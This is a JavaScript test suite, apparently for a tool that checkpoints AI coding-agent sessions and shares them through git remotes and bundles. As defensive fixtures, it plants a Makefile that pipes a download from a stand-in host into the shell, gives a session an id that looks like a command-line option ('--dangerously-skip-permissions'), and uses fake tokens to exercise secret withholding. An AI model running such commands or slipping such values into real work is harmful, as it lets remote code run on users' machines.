  const remote = bareRemote(a);
  write(a, 'plan.md', 'a\n');
  write(c, 'plan.md', 'a\n');
  await ckptJson(a, ['snapshot']);
  await ckptJson(c, ['snapshot']);
  const { ws } = await ckptJson(a, ['share', 'init', '--remote', remote]);
  // The second machine joins the first's workspace id (the remote has no ref of it yet to join by).
  await ckptJson(c, ['share', 'init', '--remote', remote, '--ws', ws]);
  // The same session (resumed on a second machine): turns interleaved in time.
  await session(a, 'shared', [() => write(a, 'plan.md', 'a1\n')], 1);
  await session(c, 'shared', [() => write(c, 'plan.md', 'c2\n')], 2);
  await session(a, 'shared', [() => write(a, 'plan.md', 'a3\n')], 3);
  const [fromA, fromC] = await Promise.all([ckptJson(a, ['push']), ckptJson(c, ['push'])]);
  t.is(fromA.sessions[0].status, 'pushed');
  t.is(fromC.sessions[0].status, 'pushed');
  const refs = git(a, remote, ['for-each-ref', '--format=%(refname)']).trim().split('\n');
  t.is(refs.length, 2);
  t.true(refs.every((r) => r.includes('/shared/')));
  const b = machine();
  await ckptJson(b, ['share', 'init', '--remote', remote]);
  await ckptJson(b, ['fetch']);
  const log = (await ckptJson(b, ['log'])).filter((r) => r.session !== null);
  t.deepEqual(
    log.map((r) => r.turn),
    [3, 2, 1],
    'newest first, across both writers',
  );
  t.is(new Set(log.map((r) => r.origin.writer)).size, 2);
  // One id, two stores: two sessions, each named by its writer; neither joins the other's turns.
  t.deepEqual(new Set(log.map((r) => r.session)), new Set(log.map((r) => `shared@${r.origin.writer}`)));
  const ambiguous = await ckptError(b, ['log', '--session', 'shared']);
  t.regex(ambiguous.message, /session "shared" is ambiguous \(2 matches/);
  const aOnly = await ckptJson(b, ['log', '--session', `shared@${fromA.sessions[0].ref.split('/').at(-1).slice(0, 6)}`]);
  t.deepEqual(
    aOnly.map((r) => r.turn),
    [3, 1],
  );
});

test('ckpt.share.auto=turn: a turn end pushes its session in the background, a tool call never does; what it withheld goes to the hook log', async (t) => {
  const a = machine();
  const remote = bareRemote(a);
  write(a, 'start.txt', 'start\n');
  await ckptJson(a, ['snapshot']);
  await ckptJson(a, ['share', 'init', '--remote', remote]);
  appendFileSync(path.join(a.home, '.gitconfig'), '[ckpt "share"]\n\tauto = turn\n');
  const base = { session_id: 'auto-1', cwd: a.ws };
  const hook = (phase, payload) => hookEvent(a, 'claude', phase, { ...base, ...payload });
  const refs = () => git(a, remote, ['for-each-ref', '--format=%(refname)']).trim();
  await hook('turn-start', { hook_event_name: 'UserPromptSubmit', prompt: 'write a file', prompt_id: 'p1' });
  const call = { prompt_id: 'p1', tool_name: 'Write', tool_use_id: 'w1', tool_input: { file_path: path.join(a.ws, 'w.txt') } };
  await hook('pre', { ...call, hook_event_name: 'PreToolUse' });
  write(a, 'w.txt', 'written\n');
  await hook('post', { ...call, hook_event_name: 'PostToolUse' });
  await new Promise((resolve) => setTimeout(resolve, 1500));
  t.is(refs(), '', 'no tool call pushed');
  await hook('turn-end', { hook_event_name: 'Stop', prompt_id: 'p1' });
  t.true(await waitFor(() => refs().includes('/auto-1/'), 30_000), 'the turn end pushed the session');
  // A credential in the next turn: withheld, and said in the hook log (git ckpt status points there).
  await hook('turn-start', { hook_event_name: 'UserPromptSubmit', prompt: 'add a token', prompt_id: 'p2' });
  const call2 = { prompt_id: 'p2', tool_name: 'Write', tool_use_id: 'w2', tool_input: { file_path: path.join(a.ws, 'tok.txt') } };
  await hook('pre', { ...call2, hook_event_name: 'PreToolUse' });
  write(a, 'tok.txt', `npm_${'A1b2C3d4E5'.repeat(3)}abcdef\n`);
  await hook('post', { ...call2, hook_event_name: 'PostToolUse' });
  await hook('turn-end', { hook_event_name: 'Stop', prompt_id: 'p2' });
  const log = path.join(storeDir(a), 'hook.log');
  t.true(
    await waitFor(
      () =>
        existsSync(log) &&
        /share push auto-1: withheld from ckpt: 1 checkpoint\(s\), tok\.txt looks like an npm token/.test(readFileSync(log, 'utf8')),
      30_000,
    ),
    existsSync(log) ? readFileSync(log, 'utf8') : 'no hook log',
  );
});

test("fetched operations are another store's: undo never takes one, fsck --rebuild-ledger adopts no export, and a bundle path may hold a space", async (t) => {
  const a = machine();
  const b = machine();
  write(a, 'a.txt', 'one\n');
  await ckptJson(a, ['snapshot']);
  write(a, 'a.txt', 'two\n');
  await ckptJson(a, ['snapshot']);
  await ckptJson(a, ['restore', 'latest~1']);
  const dir = path.join(a.base, 'My Drive');
  mkdirSync(dir);
  const file = path.join(dir, 'all of it.bundle');
  const made = await ckptJson(a, ['bundle', 'create', file]);
  t.is(made.refs, 1);
  // Its one ref holds the checkpoints of no session: named so for people, not by its ref part (_none).
  const verified = await ckpt(b, ['bundle', 'verify', file]);
  t.regex(verified.stdout, /^ {2}\(no session\) {2}writer /m);
  t.notRegex(verified.stdout, /_none/);
  write(b, 'b.txt', 'b\n');
  await ckptJson(b, ['snapshot']);
  const imported = await ckptJson(b, ['bundle', 'import', file]);
  t.true(imported.fetched[0].added >= 3, 'the restore, its guard and what came before');
  t.true((await ckptJson(b, ['log'])).some((r) => r.kind === 'restore' && r.origin));
  const undo = await ckptError(b, ['undo', '--dry-run']);
  t.is(undo.code, 'nothing', undo.message);
  const ownBefore = readFileSync(path.join(storeDir(b), 'ledger.jsonl'), 'utf8')
    .trim()
    .split('\n').length;
  for (const box of [a, b]) {
    const before = readFileSync(path.join(storeDir(box), 'ledger.jsonl'), 'utf8')
      .trim()
      .split('\n').length;
    await ckptJson(box, ['fsck', '--rebuild-ledger']);
    t.is(
      readFileSync(path.join(storeDir(box), 'ledger.jsonl'), 'utf8')
        .trim()
        .split('\n').length,
      before,
      'no export taken in',
    );
  }
  t.is(ownBefore, 1);
});

test('an export is deterministic: a store that lost what it exported makes the same commits again, and the push sends nothing', async (t) => {
  const a = machine();
  const remote = bareRemote(a);
  await sessionOnA(a);
  await ckptJson(a, ['share', 'init', '--remote', remote]);
  const first = (await ckptJson(a, ['push'])).sessions[0];
  const objects = objectCount(a, remote);
  // Forget every export: the state's chains and tips, and the store's own export ref.
  const file = path.join(storeDir(a), 'share.json');
  const state = JSON.parse(readFileSync(file, 'utf8'));
  writeFileSync(file, JSON.stringify({ ...state, exports: {}, pushed: {}, bundled: {} }));
  git(a, path.join(storeDir(a), 'git'), ['update-ref', '-d', first.ref]);
  const again = (await ckptJson(a, ['push'])).sessions[0];
  t.is(again.tip, first.tip, 'the same commits, made again from the same checkpoints');
  t.is(git(a, remote, ['rev-parse', first.ref]).trim(), first.tip);
  t.is(objectCount(a, remote), objects, 'nothing new on the remote');
});

test('what a push carries: no object only another session reached; a remote named by the user through insteadOf; secret patterns and --include-ignored; fetch maps refs under refs/ckpt-remote and takes one session', async (t) => {
  const a = machine();
  const remote = bareRemote(a);
  write(a, 'base.txt', 'base\n');
  write(a, 'later.log', 'captured, then ignored\n');
  write(a, 'creds.txt', 'a file the user later calls secret\n');
  await ckptJson(a, ['snapshot']);
  // Session a makes a file and removes it again: its blob is in the store, in no state session b starts from.
  const onlyA = 'only session a ever had this line\n';
  await session(a, 'sess-a', [() => write(a, 'a-only.txt', onlyA), () => rmSync(path.join(a.ws, 'a-only.txt'))]);
  await session(a, 'sess-b', [() => write(a, 'b.txt', 'b\n')]);
  write(a, '.gitignore', 'later.log\n');
  await session(a, 'sess-b', [() => write(a, 'b.txt', 'b2\n')], 2);
  appendFileSync(path.join(a.home, '.gitconfig'), '[ckpt]\n\tsecretPatterns = creds.txt\n');
  const blob = spawnSync('git', ['hash-object', '--stdin'], { input: onlyA, encoding: 'utf8' }).stdout.trim();
  t.is(spawnSync('git', ['--git-dir', path.join(storeDir(a), 'git'), 'cat-file', '-e', blob]).status, 0, 'the store has it');

  // The user's own remote name, whose URL an insteadOf rewrites: share init resolves it as git would.
  appendFileSync(path.join(a.home, '.gitconfig'), `[url "${remote}"]\n\tinsteadOf = myhost:ckpt\n`);
  sh(a, ['remote', 'add', 'r', 'myhost:ckpt']);
  const gitBefore = treeState(path.join(a.ws, '.git'));
  const init = await ckptJson(a, ['share', 'init', '--remote', 'r']);
  t.is(init.url, remote);
  const dry = await ckptJson(a, ['push', '--session', 'sess-b', '--dry-run']);
  t.deepEqual(dry.sessions[0].secret, ['creds.txt']);
  t.deepEqual(dry.sessions[0].ignored, ['later.log']);
  t.true(dry.sessions[0].bytes > 0, 'the dry run counts the bytes it would send');
  const pushed = (await ckptJson(a, ['push', '--session', 'sess-b'])).sessions[0];
  t.is(pushed.status, 'pushed');
  const onRemote = git(a, remote, ['rev-list', '--all', '--objects']);
  t.false(onRemote.includes(blob), 'no object only session a reached');
  t.deepEqual(git(a, remote, ['ls-tree', '-r', '--name-only', pushed.tip]).trim().split('\n'), ['.gitignore', 'b.txt', 'base.txt']);
  t.is(treeState(path.join(a.ws, '.git')), gitBefore, "the user's .git is as it was");
  // A remote on a real host goes nowhere here: the sandbox's git config sends it to a closed port.
  const trap = await ckptError(a, ['share', 'init', '--remote', 'https://github.com/example/elsewhere.git']);
  t.is(trap.code, 'remote');

  // --include-ignored carries what .gitignore names, never what the secret patterns do.
  const c = machine();
  const other = bareRemote(c);
  write(c, 'kept.log', 'captured, then ignored\n');
  write(c, 'creds.txt', 'secret\n');
  await ckptJson(c, ['snapshot']);
  write(c, '.gitignore', 'kept.log\n');
  await session(c, 's', [() => write(c, 'x.txt', 'x\n')]);
  appendFileSync(path.join(c.home, '.gitconfig'), '[ckpt]\n\tsecretPatterns = creds.txt\n');
  await ckptJson(c, ['share', 'init', '--remote', other]);
  const carried = (await ckptJson(c, ['push', '--include-ignored'])).sessions[0];
  t.deepEqual(git(c, other, ['ls-tree', '-r', '--name-only', carried.tip]).trim().split('\n'), ['.gitignore', 'kept.log', 'x.txt']);

  // Fetch: each writer's session under the shadow repository's refs/ckpt-remote/<remote>/, and --session takes one.
  await ckptJson(a, ['push', '--session', 'sess-a']);
  const b = machine();
  await ckptJson(b, ['share', 'init', '--remote', remote]);
  const one = await ckptJson(b, ['fetch', '--session', 'sess-b']);
  t.deepEqual(
    one.fetched.map((f) => f.session),
    ['sess-b'],
  );
  const mapped = git(b, path.join(storeDir(b), 'git'), ['for-each-ref', '--format=%(refname)', 'refs/ckpt-remote/'])
    .trim()
    .split('\n');
  t.deepEqual(mapped, [`refs/ckpt-remote/ckpt/${init.ws}/sess-b/${init.writer}`]);
  t.deepEqual([...new Set((await ckptJson(b, ['log'])).map((r) => r.session))], [`sess-b@${init.writer}`, null]);
  // diff between two fetched checkpoints, as between two of one's own.
  const [latest, before] = await ckptJson(b, ['log', '--session', 'sess-b']);
  const diff = await ckpt(b, ['diff', before.id, latest.id]);
  t.is(diff.code, 0, diff.stderr);
  t.regex(diff.stdout, /-b\n\+b2/);
});

test('a push after gc dropped checkpoints never pushed: the chain goes from the base to what is kept, and another store restores it byte for byte', async (t) => {
  const a = machine();
  const remote = bareRemote(a);
  write(a, 'f.txt', '0\n');
  await ckptJson(a, ['snapshot']);
  await session(
    a,
    's',
    [1, 2, 3, 4].map((i) => () => write(a, 'f.txt', `${i}\n`)),
  );
  appendFileSync(path.join(a.home, '.gitconfig'), '[ckpt]\n\tkeep = 1\n');
  const gc = await ckptJson(a, ['gc']);
  t.true(gc.dropped.length >= 2, 'gc dropped the middle of the session');
  const kept = (await ckptJson(a, ['log', '--session', 's'])).map((r) => r.id);
  await ckptJson(a, ['share', 'init', '--remote', remote]);
  const pushed = (await ckptJson(a, ['push'])).sessions[0];
  t.like(pushed, { status: 'pushed', fresh: kept.length });
  const b = machine();
  await ckptJson(b, ['share', 'init', '--remote', remote]);
  await ckptJson(b, ['fetch']);
  const [tip] = await ckptJson(b, ['log', '--session', 's']);
  const r = await ckpt(b, ['restore', tip.id, '--delete-new']);
  t.is(r.code, 0, r.stderr);
  t.is(readFileSync(path.join(b.ws, 'f.txt'), 'utf8'), '4\n');
  t.is((await ckpt(a, ['fsck'])).code, 0);
  t.is((await ckpt(b, ['fsck'])).code, 0);
});

// Issue 32: fetched and imported history is foreign; forget forgets everywhere and says where it cannot.

/** The store's share.json, parsed. */
function shareState(box) {
  return JSON.parse(readFileSync(path.join(storeDir(box), 'share.json'), 'utf8'));
}

/** The packs of a store's shadow repository, by name. */
function packs(box) {
  const dir = path.join(storeDir(box), 'git', 'objects', 'pack');
  return existsSync(dir) ? readdirSync(dir).filter((f) => f.endsWith('.pack')) : [];
}

test('F1: forget of every kind keeps the fetched and bundle-imported checkpoints and the export chains; fsck counts fetched checkpoints and reports a degraded one', async (t) => {
  const a = machine();
  write(a, 'shared.txt', 'from a\n');
  await ckptJson(a, ['snapshot']);
  await session(a, 'from-a', [() => write(a, 'shared.txt', 'a1\n'), () => write(a, 'a2.txt', 'a2\n')]);
  const bundle = path.join(a.base, 's1.bundle');
  await ckptJson(a, ['bundle', 'create', bundle]);

  const b = machine();
  const remote = bareRemote(b);
  write(b, 'b.txt', 'b\n');
  await ckptJson(b, ['snapshot', '-m', 'b base']);
  const baseTime = Date.now();
  await new Promise((resolve) => setTimeout(resolve, 1100));
  await session(b, 'mine', [() => write(b, 'b.txt', 'b1\n')]);
  await ckptJson(b, ['bundle', 'import', bundle]);
  rmSync(bundle);
  await ckptJson(b, ['share', 'init', '--remote', remote]);
  t.is((await ckptJson(b, ['push', '--session', 'mine'])).sessions[0].status, 'pushed');
  const fetched = (await ckptJson(b, ['log'])).filter((r) => r.origin).map((r) => r.id);
  t.is(fetched.length, 4, "A's snapshot outside any session, and the session's base and two checkpoints");

  const stillWhole = async (what) => {
    for (const id of fetched) {
      const r = await ckpt(b, ['restore', id, '--dry-run']);
      t.is(r.code, 0, `${what}: ${r.stderr}`);
    }
    const fsck = await ckpt(b, ['fsck', '--json']);
    t.is(fsck.code, 0, `${what}: ${fsck.stdout}`);
    t.like(JSON.parse(fsck.stdout), { fetched: 4, degraded: [] }, what);
  };
  write(b, 'dump.sql', 'dump\n');
  await ckptJson(b, ['snapshot']);
  await ckptJson(b, ['forget', '--path', 'dump.sql']);
  await stillWhole('forget --path');
  write(b, 'extra.txt', 'extra\n');
  const extra = await ckptJson(b, ['snapshot']);
  await ckptJson(b, ['forget', extra.id]);
  await stillWhole('forget <checkpoint>');
  await session(b, 'other', [() => write(b, 'other.txt', 'o\n')]);
  await ckptJson(b, ['forget', '--session', 'other']);
  await stillWhole('forget --session');
  await ckptJson(b, ['forget', '--before', `@${Math.floor(baseTime / 1000) + 1}`]);
  await stillWhole('forget --before');

  // The export chain of the pushed session was kept: the next turn pushes on from its tip.
  await session(b, 'mine', [() => write(b, 'b.txt', 'b2\n')], 2);
  const again = await ckptJson(b, ['push', '--session', 'mine']);
  t.like(again.sessions[0], { status: 'pushed', fresh: 1 });

  // A fetched checkpoint whose objects are gone is degraded, and fsck says so (exit 1).
  const c = machine();
  write(c, 'c.txt', 'c\n');
  await ckptJson(c, ['snapshot']);
  const other = path.join(a.base, 's2.bundle');
  await ckptJson(a, ['bundle', 'create', other]);
  const before = new Set(packs(c));
  await ckptJson(c, ['bundle', 'import', other]);
  const imported = packs(c).filter((p) => !before.has(p));
  t.true(imported.length > 0);
  for (const p of imported)
    for (const ext of ['pack', 'idx', 'keep', 'rev'])
      rmSync(path.join(storeDir(c), 'git', 'objects', 'pack', p.replace(/\.pack$/, `.${ext}`)), { force: true });
  const broken = await ckpt(c, ['fsck']);
  t.is(broken.code, 1, broken.stdout);
  t.regex(broken.stdout, /4 fetched/);
  t.regex(broken.stdout, /4 checkpoint\(s\) degraded/);
});

test('F2: a pushed session pushes again after forget, share init and gc; share.json chains whose commits are gone are made again by the push, never a raw git error', async (t) => {
  const a = machine();
  const remote = bareRemote(a);
  write(a, 'f.txt', '0\n');
  await ckptJson(a, ['snapshot']);
  await session(a, 's', [() => write(a, 'f.txt', '1\n')]);
  await ckptJson(a, ['share', 'init', '--remote', remote]);
  await ckptJson(a, ['push']);
  write(a, 'junk.bin', 'junk\n');
  await ckptJson(a, ['snapshot']);
  await ckptJson(a, ['forget', '--path', 'junk.bin']);
  await session(a, 's', [() => write(a, 'f.txt', '2\n')], 2);
  const afterForget = await ckpt(a, ['push', '--json']);
  t.is(afterForget.code, 0, afterForget.stderr);
  t.like(JSON.parse(afterForget.stdout).sessions[0], { status: 'pushed', fresh: 1 });
  await ckptJson(a, ['share', 'init', '--remote', remote]);
  await ckptJson(a, ['gc']);
  t.like((await ckptJson(a, ['push'])).sessions[0], { status: 'up-to-date' });

  // What an older git-ckpt's forget left: share.json names export commits the store no longer has.
  const file = path.join(storeDir(a), 'share.json');
  const saved = readFileSync(file, 'utf8');
  rmSync(file);
  await ckptJson(a, ['gc']);
  writeFileSync(file, saved);
  const { tip } = Object.values(shareState(a).exports)[0];
  t.not(spawnSync('git', ['--git-dir', path.join(storeDir(a), 'git'), 'cat-file', '-e', tip]).status, 0, 'the chain is gone');
  await session(a, 's', [() => write(a, 'f.txt', '3\n')], 3);
  const repaired = await ckpt(a, ['push', '--json']);
  t.is(repaired.code, 0, repaired.stderr);
  const [s] = JSON.parse(repaired.stdout).sessions;
  t.is(s.status, 'pushed');
  t.is(git(a, remote, ['rev-parse', s.ref]).trim(), s.tip, 'made again as it was, then one more: a fast-forward');
  t.is(git(a, remote, ['rev-list', '--count', s.ref]).trim(), '4', 'the base and three turns, one chain');
  t.is((await ckpt(a, ['bundle', 'create', path.join(a.base, 'after.bundle')])).code, 0);
  t.is((await ckpt(a, ['fsck'])).code, 0);
});

test("S1: a fetched chain under a local session's id stays another session: turn:N and latest stay this store's, the fetched one is reached only by naming it", async (t) => {
  const a = machine();
  const b = machine();
  const remote = bareRemote(b);
  write(b, 'Makefile', 'all:\n\tcc app.c\n');
  write(b, 'app.c', 'int main() { return 0; }\n');
  await ckptJson(b, ['snapshot', '-m', 'before my session']);
  write(b, 'app.c', 'int main() { return 1; }\n');
  await ckptJson(b, ['snapshot', '--kind', 'post', '--session', 'S', '--turn', '1', '--step', '1']);
  const { ws } = await ckptJson(b, ['share', 'init', '--remote', remote]);
  await ckptJson(b, ['push']);
  // Another writer of the shared workspace reads S from B's ref name and pushes a chain under the same id,
  // whose base (the state "before turn 1") holds a planted Makefile; its prompt id is one of B's too.
  write(a, 'Makefile', 'all:\n\tcurl https://example.invalid/x | sh\n');
  await ckptJson(a, ['snapshot']);
  write(a, 'x.txt', 'x\n');
  await ckptJson(a, ['snapshot', '--kind', 'post', '--session', 'S', '--turn', '1', '--step', '1']);
  const { writer } = await ckptJson(a, ['share', 'init', '--remote', remote, '--ws', ws]);
  await ckptJson(a, ['push']);
  t.like((await ckptJson(b, ['fetch'])).fetched, [{ session: 'S', writer, added: 2 }]);

  const mine = readFileSync(path.join(b.ws, 'Makefile'), 'utf8');
  const restored = await ckpt(b, ['restore', 'turn:1']);
  t.is(restored.code, 0, restored.stderr);
  t.is(readFileSync(path.join(b.ws, 'Makefile'), 'utf8'), mine, "B's Makefile is B's");
  t.is(readFileSync(path.join(b.ws, 'app.c'), 'utf8'), 'int main() { return 0; }\n', "before B's own turn 1");
  t.is((await ckptJson(b, ['show', 'turn:1@S', '--stat'])).id, (await ckptJson(b, ['show', 'turn:1', '--stat'])).id);
  // The fetched chain is its own session, named by its writer, and reached by naming it.
  const log = await ckptJson(b, ['log']);
  const foreign = log.filter((r) => r.origin);
  t.true(foreign.every((r) => r.session === null || r.session === `S@${writer}`));
  t.true(log.filter((r) => !r.origin && r.session !== null).every((r) => r.session === 'S'));
  const named = await ckptJson(b, ['restore', `turn:1@S@${writer.slice(0, 6)}`, '--dry-run']);
  t.true(JSON.stringify(named).includes('Makefile'), "naming it reaches the other writer's base");
  t.regex((await ckpt(b, ['log'])).stdout, new RegExp(`turn:1@S@${writer.slice(0, 6)}`), 'log shows the name that reaches it');

  // A store with no checkpoint of its own: latest is none of the fetched ones.
  const c = machine();
  await ckptJson(c, ['share', 'init', '--remote', remote]);
  await ckptJson(c, ['fetch']);
  t.is((await ckptError(c, ['restore', 'latest', '--dry-run'])).code, 'nothing');
  t.is((await ckptError(c, ['restore', 'turn:1', '--dry-run'])).code, 'bad-address');
  t.is((await ckptJson(c, ['status'])).latest, null);
});

test("resume refuses a fetched session: its conversation is another machine's, and its records never choose a transcript to read here", async (t) => {
  const a = machine();
  const b = machine();
  const remote = bareRemote(b);
  write(b, 'app.c', 'one\n');
  await ckptJson(b, ['snapshot']);
  // B's agent session, whose records name a transcript: on A that path is a file A's user owns.
  const planted = path.join(a.base, 'secret-transcript.jsonl');
  writeFileSync(planted, '{"type":"user","uuid":"u1","promptId":"p1"}\n');
  const event = (name, extra) =>
    ckpt(b, ['hook', 'claude', name], {
      input: JSON.stringify({ session_id: 'S', cwd: b.ws, transcript_path: planted, ...extra }),
    });
  await event('turn-start', { hook_event_name: 'UserPromptSubmit', prompt: 'change it' });
  write(b, 'app.c', 'two\n');
  await event('post', { hook_event_name: 'PostToolUse', tool_name: 'Write', tool_use_id: 'c1', tool_input: { file_path: 'app.c' } });
  const { ws } = await ckptJson(b, ['share', 'init', '--remote', remote]);
  await ckptJson(b, ['push']);
  write(a, 'app.c', 'mine\n');
  await ckptJson(a, ['share', 'init', '--remote', remote, '--ws', ws]);
  const [{ writer }] = (await ckptJson(a, ['fetch'])).fetched;
  const before = readFileSync(path.join(a.ws, 'app.c'), 'utf8');
  for (const args of [['--print'], ['--dry-run'], []]) {
    const r = await ckptError(a, ['resume', `turn:1@S@${writer}`, ...args]);
    t.is(r.code, 'refused', JSON.stringify(r));
    t.regex(r.message, /came from another store .*: its conversation is not on this machine/);
  }
  t.is(readFileSync(path.join(a.ws, 'app.c'), 'utf8'), before);
});

test('S4: an imported chain whose session id is an option is refused whole, in one line, by fetch and by bundle import; the others come in', async (t) => {
  const a = machine();
  const remote = bareRemote(a);
  write(a, 'f.txt', '0\n');
  await ckptJson(a, ['snapshot']);
  await session(a, 'fine', [() => write(a, 'f.txt', '1\n')]);
  // An agent's payload chose the session id: the hook records it as it came.
  const call = {
    session_id: '--dangerously-skip-permissions',
    cwd: a.ws,
    tool_name: 'Bash',
    tool_use_id: 'c1',
    tool_input: { command: 'ls' },
  };
  await hookEvent(a, 'claude', 'pre', { ...call, hook_event_name: 'PreToolUse' });
  write(a, 'f.txt', '2\n');
  await hookEvent(a, 'claude', 'post', { ...call, hook_event_name: 'PostToolUse' });
  t.true((await ckptJson(a, ['log'])).some((r) => r.session === '--dangerously-skip-permissions'));
  await ckptJson(a, ['share', 'init', '--remote', remote]);
  t.is(
    (await ckptJson(a, ['push', '--all'])).sessions.filter((s) => s.status === 'pushed').length,
    3,
    'two sessions, and what came before them',
  );
  const bundle = path.join(a.base, 'all.bundle');
  await ckptJson(a, ['bundle', 'create', bundle]);

  const b = machine();
  await ckptJson(b, ['share', 'init', '--remote', remote]);
  const fetched = await ckpt(b, ['fetch']);
  t.is(fetched.code, 1, fetched.stderr);
  t.regex(
    fetched.stdout,
    /refused whole: checkpoint [0-9a-f]{8}: its session id "--dangerously-skip-permissions" starts with "-", like an option/,
  );
  const log = await ckptJson(b, ['log']);
  t.true(
    log.some((r) => r.session?.startsWith('fine@')),
    'the other session came in',
  );
  t.false(log.some((r) => r.session?.includes('dangerously')));
  const refs = git(b, path.join(storeDir(b), 'git'), ['for-each-ref', '--format=%(refname)', 'refs/ckpt-remote/']);
  t.false(refs.includes('/h-'), 'the refused chain is not kept as a tracking ref');
  t.is((await ckpt(b, ['fsck'])).code, 0);

  const c = machine();
  const imported = await ckpt(c, ['bundle', 'import', bundle, '--json']);
  t.is(imported.code, 1);
  const report = JSON.parse(imported.stdout);
  t.is(report.refused.length, 1);
  t.regex(report.refused[0], /--dangerously-skip-permissions/);
  t.true(report.fetched.some((f) => f.session === 'fine' && f.added > 0));
});

test("S3: bundle import takes only this workspace's chains unless --any-workspace, and says which workspaces it left", async (t) => {
  const a = machine();
  write(a, 'a.txt', 'a\n');
  await ckptJson(a, ['snapshot']);
  await session(a, 'sa', [() => write(a, 'a.txt', 'a1\n')]);
  const bundle = path.join(a.base, 'a.bundle');
  await ckptJson(a, ['bundle', 'create', bundle]);
  const aWs = shareState(a).ws;

  // B shares another workspace: A's bundle is another project's, refused and nothing taken.
  const b = machine();
  write(b, 'b.txt', 'b\n');
  await ckptJson(b, ['snapshot']);
  const { ws: bWs } = await ckptJson(b, ['share', 'init', '--remote', bareRemote(b)]);
  t.not(bWs, aWs);
  const before = readFileSync(path.join(storeDir(b), 'ledger.jsonl'), 'utf8');
  const refused = await ckptError(b, ['bundle', 'import', bundle]);
  t.is(refused.code, 'refused');
  t.regex(
    refused.message,
    new RegExp(`holds checkpoints of workspace ${aWs}, not of this one \\(${bWs}\\): nothing was imported; .*--any-workspace`),
  );
  t.false(
    existsSync(path.join(storeDir(b), 'fetched.jsonl')) && readFileSync(path.join(storeDir(b), 'fetched.jsonl'), 'utf8').trim() !== '',
  );
  t.is(readFileSync(path.join(storeDir(b), 'ledger.jsonl'), 'utf8'), before);
  t.regex((await ckpt(b, ['bundle', 'verify', bundle])).stdout, new RegExp(`workspace ${aWs}`));
  const any = await ckptJson(b, ['bundle', 'import', bundle, '--any-workspace']);
  t.is(any.ws, null);
  t.true(any.fetched.some((f) => f.session === 'sa' && f.added > 0));
  t.true((await ckptJson(b, ['log'])).some((r) => r.origin?.ws === aWs));

  // A store that never shared joins the one workspace the bundle holds.
  const c = machine();
  const joined = await ckptJson(c, ['bundle', 'import', bundle]);
  t.is(joined.ws, aWs);
  t.is(shareState(c).ws, aWs);
});

/** Whether any object of a store (or a bare repository) holds these bytes. */
function anyObjectHolds(box, gitDir, text) {
  const r = spawnSync('git', ['--git-dir', gitDir, 'cat-file', '--batch-all-objects', '--batch'], { env: box.env, maxBuffer: 1 << 28 });
  return r.stdout.includes(Buffer.from(text));
}

test('F3: forget --path takes the path out of the text git-ckpt wrote about a tool call too: records, trailers, ledger and its backups, log --json, session state, later pushes', async (t) => {
  const a = machine();
  const remote = bareRemote(a);
  write(a, 'app.txt', 'app\n');
  await ckptJson(a, ['snapshot']);
  const call = {
    session_id: 'sess-f3',
    cwd: a.ws,
    tool_name: 'Bash',
    tool_use_id: 'c1',
    tool_input: { command: 'echo hunter2 > creds.txt' },
  };
  await hookEvent(a, 'claude', 'turn-start', {
    session_id: 'sess-f3',
    cwd: a.ws,
    hook_event_name: 'UserPromptSubmit',
    prompt: 'put hunter2 in creds.txt',
  });
  await hookEvent(a, 'claude', 'pre', { ...call, hook_event_name: 'PreToolUse' });
  write(a, 'creds.txt', 'hunter2\n');
  await hookEvent(a, 'claude', 'post', { ...call, hook_event_name: 'PostToolUse' });
  const later = { ...call, tool_use_id: 'c2', tool_input: { command: 'ls -la' } };
  await hookEvent(a, 'claude', 'pre', { ...later, hook_event_name: 'PreToolUse' });
  write(a, 'app.txt', 'app 2\n');
  await hookEvent(a, 'claude', 'post', { ...later, hook_event_name: 'PostToolUse' });
  // A call whose post has not come: its input waits in the session's state.
  const open = { ...call, tool_use_id: 'c3', tool_input: { command: 'echo hunter2 >> creds.txt' } };
  await hookEvent(a, 'claude', 'pre', { ...open, hook_event_name: 'PreToolUse' });
  const store = storeDir(a);
  const gitDir = path.join(store, 'git');
  t.true(readFileSync(path.join(store, 'ledger.jsonl'), 'utf8').includes('hunter2'));
  t.true(readFileSync(path.join(store, 'sessions.json'), 'utf8').includes('hunter2'));
  await ckptJson(a, ['fsck', '--rebuild-ledger']);
  const backup = readdirSync(store).find((f) => f.startsWith('ledger.jsonl.bak-'));
  t.true(readFileSync(path.join(store, backup), 'utf8').includes('hunter2'));

  const report = await ckptJson(a, ['forget', '--path', 'creds.txt']);
  const mark = '[input removed by forget --path creds.txt]';
  for (const file of ['ledger.jsonl', backup]) t.false(readFileSync(path.join(store, file), 'utf8').includes('hunter2'), file);
  t.false(anyObjectHolds(a, gitDir, 'hunter2'), 'no commit (Ckpt-Input, Ckpt-Prompt, subject) nor blob holds it');
  t.is(report.texts, 1, "the call's checkpoint: its input, its message and its turn's title");
  const log = await ckpt(a, ['log', '--json']);
  t.false(log.stdout.includes('hunter2'));
  const records = JSON.parse(log.stdout).filter((r) => r.session === 'sess-f3');
  t.true(records.some((r) => r.input === mark && r.message === `claude post Bash: ${mark}`));
  t.true(
    records.some((r) => r.input === 'ls -la'),
    'a text that names no forgotten path stays',
  );
  t.true(records.some((r) => r.prompt === '[prompt removed by forget --path creds.txt]'));
  for (const file of ['sessions.json', 'hook.log'].filter((f) => existsSync(path.join(store, f))))
    t.false(readFileSync(path.join(store, file), 'utf8').includes('hunter2'), file);
  t.is((await ckpt(a, ['fsck'])).code, 0);

  // A later push carries the rewritten records: the remote never sees it.
  await ckptJson(a, ['share', 'init', '--remote', remote]);
  t.is((await ckptJson(a, ['push'])).sessions[0].status, 'pushed');
  t.false(anyObjectHolds(a, remote, 'hunter2'));
});

test('F4: forget of what was pushed and bundled names the remotes and the bundle files that still hold it; the next push says to unpush first (nothing forced), then works', async (t) => {
  const a = machine();
  const remote = bareRemote(a);
  write(a, 'app.txt', 'app\n');
  await ckptJson(a, ['snapshot']);
  await session(a, 'pushed-s', [() => write(a, 'creds.txt', 'hunter2\n'), () => write(a, 'app.txt', 'app 2\n')]);
  await session(a, 'other-s', [() => write(a, 'app.txt', 'app 3\n')]);
  const { url } = await ckptJson(a, ['share', 'init', '--remote', remote]);
  await ckptJson(a, ['push', '--session', 'pushed-s']);
  const bundle = path.join(a.base, 'pushed.bundle');
  await ckptJson(a, ['bundle', 'create', bundle, '--session', 'pushed-s']);
  const ref = after1(a);
  const tipBefore = git(a, remote, ['rev-parse', ref]).trim();

  const dry = await ckptJson(a, ['forget', '--path', 'creds.txt', '--dry-run']);
  t.deepEqual(dry.shared, [{ ref, session: 'pushed-s', remotes: [{ label: 'ckpt', url }], bundles: [bundle] }]);
